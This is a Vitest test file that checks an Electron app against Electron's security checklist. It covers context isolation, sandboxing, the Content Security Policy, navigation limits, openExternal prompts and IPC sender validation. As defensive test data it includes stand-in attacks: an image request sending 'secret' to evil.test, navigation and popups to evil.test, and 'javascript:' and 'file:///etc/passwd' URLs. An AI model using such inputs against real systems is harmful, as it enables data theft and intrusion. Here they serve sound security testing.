// Electron's security checklist, item by item and under its names, on the built main process, preload and page.
import { mkdtempSync, readdirSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { Page, Request } from "playwright-core";
import { afterAll, beforeAll, expect, test } from "vitest";
import { fuses } from "../../src/main/electron/fuses.ts";
import { lockedPreferences } from "../../src/main/electron/lockdown.ts";
import { CALL_CHANNEL } from "../../src/shared/bridge.ts";
import { CONTENT_SECURITY_POLICY } from "../../src/shared/policy.ts";
import { builtApp } from "../support/built-app.ts";
import { type HostWindow, type OpenedWindow, openWindow } from "./window.ts";

const home = mkdtempSync(join(tmpdir(), "lares-checklist-"));
let app: string;
let opened: OpenedWindow;
let page: Page;
let preferences: Record<string, unknown>;
let agreed = false;

beforeAll(async () => {
  app = await builtApp();
  opened = await openWindow({
    home,
    answer: ({ kind }) => (kind === "message" && agreed ? { response: 1 } : undefined),
  });
  page = opened.page;
  const { windows } = await opened.main.ask<{ windows: { preferences: typeof preferences }[] }>("report");
  preferences = windows[0]!.preferences;
}, 60_000);
afterAll(async () => {
  await opened.close();
  rmSync(home, { recursive: true });
});

const call = (name: string, input: object) =>
  page.evaluate(([name, input]) => (window as HostWindow).host.invoke(name, input), [name, input] as const);
const fetched = (url: string) =>
  opened.main.ask<{ status: number; headers: Record<string, string> } | undefined>("fetch", "lares", "GET", url);
const pageFiles = () =>
  readdirSync(join(app, "out", "renderer"), { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map((entry) => join(entry.parentPath, entry.name).slice(join(app, "out", "renderer").length));

test("1. only load secure content", async () => {
  const requested: Request[] = [];
  page.on("request", (request) => requested.push(request));
  await page.reload();
  expect(requested.length).toBeGreaterThan(1);
  expect(requested.filter((request) => !request.url().startsWith("https://bundle/"))).toEqual([]);
  expect(await Promise.all(["http://evil.test/", "https://evil.test/"].map(fetched))).toEqual([undefined, undefined]);
});

test("2. do not enable Node.js integration for remote content", async () => {
  expect(preferences).toMatchObject({
    nodeIntegration: false,
    nodeIntegrationInWorker: false,
    nodeIntegrationInSubFrames: false,
  });
  const kinds = () => ["require", "process", "module", "Buffer"].map((name) => typeof Reflect.get(window, name));
  expect(await page.evaluate(kinds)).toEqual(Array(4).fill("undefined"));
});

test("3. enable context isolation", () => {
  expect(preferences.contextIsolation).toBe(true);
  const preload = readFileSync(join(app, "out", "preload", "index.cjs"), "utf8");
  expect(preload).toContain("exposeInMainWorld");
  expect(preload).not.toMatch(/\bwindow\.|globalThis/);
});

test("4. enable process sandboxing", async () => {
  expect(await opened.main.ask("report")).toMatchObject({ sandboxed: true });
  expect(preferences.sandbox).toBe(true);
});

test("5. handle session permission requests from remote content", async () => {
  const permissions = ["geolocation", "media", "hid", "usb", "serial", "clipboard-read", "openExternal", "unknown"];
  const answers = await Promise.all(permissions.map((name) => opened.main.ask<boolean[][]>("permission", name)));
  expect(answers.flat(2).filter(Boolean)).toEqual([]);
});

test("6. do not disable webSecurity", () => {
  expect(preferences.webSecurity).toBe(true);
});

test("7. define a Content Security Policy", async () => {
  const answers = await Promise.all(pageFiles().map((file) => fetched(`app://bundle${file}`)));
  expect(answers.length).toBeGreaterThan(1);
  expect(answers.filter((one) => one?.headers["content-security-policy"] !== CONTENT_SECURITY_POLICY)).toEqual([]);
  expect(CONTENT_SECURITY_POLICY).toMatch(/^default-src 'none'; script-src 'self';/);
  expect(CONTENT_SECURITY_POLICY).not.toContain("unsafe-");

  const handler = () => document.createElement("button").setAttribute("onclick", "window.pwned = true");
  await expect(page.evaluate(handler)).rejects.toThrow("requires 'TrustedScript'");
  const blocked = await page.evaluate(
    () =>
      new Promise<string>((resolve) => {
        addEventListener("securitypolicyviolation", (event) => resolve(event.effectiveDirective), { once: true });
        document.body.append(Object.assign(document.createElement("img"), { src: "https://evil.test/?q=secret" }));
      }),
  );
  expect(blocked).toBe("img-src");
  expect(await page.evaluate(() => Reflect.has(window, "pwned"))).toBe(false);
});

test("8. do not enable allowRunningInsecureContent", () => {
  expect(preferences.allowRunningInsecureContent).toBe(false);
});

test("9. do not enable experimental features", () => {
  expect(preferences.experimentalFeatures).toBe(false);
});

test("10. do not use enableBlinkFeatures", () => {
  expect(preferences).not.toHaveProperty("enableBlinkFeatures");
  expect(preferences).toEqual(lockedPreferences(join(app, "out", "preload", "index.cjs")));
});

test("11. do not use allowpopups for webviews", () => {
  expect(preferences.webviewTag).toBe(false);
  const texts = pageFiles().map((file) => readFileSync(join(app, "out", "renderer", file), "latin1"));
  expect(texts.filter((text) => /<webview|allowpopups/i.test(text))).toEqual([]);
});

test("12. verify webview options before creation", async () => {
  expect(await opened.main.ask("preventsOnWindow", 1, "will-attach-webview", {})).toBe(true);
});

test("13. disable or limit navigation", async () => {
  const failed = page.waitForEvent("requestfailed");
  await page.evaluate(() => location.assign("https://evil.test/"));
  expect((await failed).url()).toBe("https://evil.test/");
  expect(page.url()).toBe("https://bundle/index.html");
});

test("14. disable or limit creation of new windows", async () => {
  const popup = page.waitForEvent("popup");
  await page.evaluate(() => void window.open("https://evil.test/"));
  const tried = await popup;
  if (!tried.isClosed()) await tried.waitForEvent("close");
  expect(opened.pages()).toHaveLength(1);
});

test("15. do not use shell.openExternal with untrusted content", async () => {
  const left = () => opened.told.filter(({ what }) => what === "openExternal").map(({ value }) => value);
  for (const url of ["javascript:alert(1)", "file:///etc/passwd", "https://a@evil.test/"]) {
    await call("shell.openLink", { url });
  }
  expect(opened.dialogs).toEqual([]);

  await call("shell.openLink", { url: "https://EXAMPLE.test/?q=1" });
  expect(opened.dialogs.at(-1)?.options).toMatchObject({
    message: "Open example.test in your browser?",
    detail: expect.stringContaining("https://example.test/?q=1"),
    buttons: ["Cancel", "Open"],
    defaultId: 0,
    cancelId: 0,
  });
  expect(left()).toEqual([]);

  agreed = true;
  expect(await call("shell.openLink", { url: "https://EXAMPLE.test/?q=1" })).toMatchObject({ ok: true });
  expect(left()).toEqual(["https://example.test/?q=1"]);
});

test("16. use a current version of Electron", () => {
  const read = (file: string) => JSON.parse(readFileSync(file, "utf8"));
  const named = read("package.json").devDependencies.electron as string;
  expect(read("node_modules/electron/package.json").version).toBe(named);
  expect(Number(/^(\d+)\.\d+\.\d+$/.exec(named)?.[1])).toBeGreaterThanOrEqual(45);
});

test("17. validate the sender of all IPC messages", async () => {
  const senders = [
    null,
    { url: "app://bundle/index.html", isMain: false },
    { url: "https://evil.test/", isMain: true },
  ];
  for (const sender of senders) {
    expect(await opened.main.ask("invoke", 1, sender, CALL_CHANNEL, ["app.hello", {}])).toMatchObject({ ok: false });
  }
  expect(await call("app.hello", {})).toMatchObject({ ok: true });
});

test("18. avoid usage of the file protocol and prefer custom protocols", async () => {
  const [{ scheme, privileges } = { scheme: "", privileges: {} }] = (
    await opened.main.ask<{ schemes: { scheme: string; privileges: object }[] }>("report")
  ).schemes;
  expect({ scheme, privileges }).toEqual({ scheme: "app", privileges: { standard: true, secure: true } });
  expect(await fetched("file:///etc/passwd")).toBeUndefined();
  const main = readdirSync(join(app, "out", "main", "electron")).map((file) =>
    readFileSync(join(app, "out", "main", "electron", file), "utf8"),
  );
  expect(main.filter((text) => /loadFile|file:\/\//.test(text))).toEqual([]);
});

test("19. check which fuses you can change", () => {
  expect(fuses).toHaveLength(9);
  expect(fuses.filter(({ why }) => why.length < 20)).toEqual([]);
});

test("20. do not expose Electron APIs to untrusted web content", async () => {
  const exposed = await page.evaluate(() =>
    Object.entries((window as HostWindow).host).map(([name, value]) => [name, typeof value]),
  );
  expect(exposed).toEqual([
    ["invoke", "function"],
    ["onBatch", "function"],
  ]);
  const given = page.evaluate(
    () => new Promise<unknown[]>((resolve) => void (window as HostWindow).host.onBatch((...values) => resolve(values))),
  );
  await call("settings.change", { change: { theme: "dark" } });
  expect(await given).toEqual([{ seq: expect.any(Number), events: expect.any(Array) }]); // and not the event, which has the sender
});
